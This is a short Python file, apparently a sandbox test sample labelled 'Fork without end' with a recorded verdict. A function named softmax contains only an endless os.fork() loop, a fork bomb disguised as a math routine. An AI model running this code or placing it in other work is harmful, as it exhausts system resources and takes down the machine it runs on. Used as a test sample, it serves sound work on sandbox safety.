# Fork without end.
# verdict: raised an error

import os


def softmax(logits):
    while True:
        os.fork()
